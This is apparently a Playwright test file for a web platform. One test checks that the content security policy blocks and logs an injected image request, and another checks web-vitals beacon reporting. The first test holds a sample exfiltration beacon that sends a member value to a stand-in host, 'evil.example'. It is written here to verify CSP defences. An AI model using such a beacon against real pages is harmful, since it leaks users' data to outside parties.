import { reportWebVitals } from '@siteswap/contracts/platform';
import { expect, test } from '#src/support/fixtures.ts';
import { logLines } from '#src/support/service-logs.ts';

test.use({ allowedErrors: [/evil\.example/] });

test('what the content security policy blocked reaches operators', async ({ page, platform }) => {
  await page.goto('/');
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/pixel?member=hush';
  });
  const lines = () =>
    logLines(platform, 'gateway')
      .filter(({ msg }) => msg === 'csp violation')
      .map(({ violation }) => violation);
  await expect
    .poll(lines)
    .toContainEqual(
      expect.objectContaining({ directive: 'img-src', blocked: 'https://evil.example/pixel' }),
    );
  expect(JSON.stringify(lines())).not.toContain('hush');
});

test('a page view is measured once, when its page is hidden', async ({ page }) => {
  const statuses: number[] = [];
  // Playwright does not see the body of a beacon.
  const reports: unknown[] = [];
  await page.exposeFunction('keepReport', (text: string) => void reports.push(JSON.parse(text)));
  await page.addInitScript(() => {
    const send = navigator.sendBeacon.bind(navigator);
    const { keepReport } = window as unknown as { keepReport: (text: string) => void };
    navigator.sendBeacon = (url, body) => {
      void (body as Blob).text().then(keepReport);
      return send(url, body);
    };
  });
  page.on('response', (response) => {
    if (new URL(response.url()).pathname === reportWebVitals.path) statuses.push(response.status());
  });
  const hide = () =>
    page.evaluate(() => {
      Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true });
      document.dispatchEvent(new Event('visibilitychange', { bubbles: true }));
    });
  const reportsOfVisit = async () => {
    reports.length = 0;
    statuses.length = 0;
    await page.goto('/');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    // The measuring code comes after everything else.
    await expect.poll(() => hide().then(() => statuses)).toEqual([204]);
    await hide();
    await expect.poll(() => reports.length).toBeGreaterThan(0);
    return [...reports];
  };
  // A page that is hidden the moment it begins to measure has not measured everything.
  await expect(async () => {
    expect(await reportsOfVisit()).toEqual([
      {
        route: 'editions.home',
        remote: expect.stringMatching(/^mf-editions@/),
        ttfb: expect.any(Number),
        fcp: expect.any(Number),
        lcp: expect.any(Number),
        cls: expect.any(Number),
      },
    ]);
  }).toPass();
});
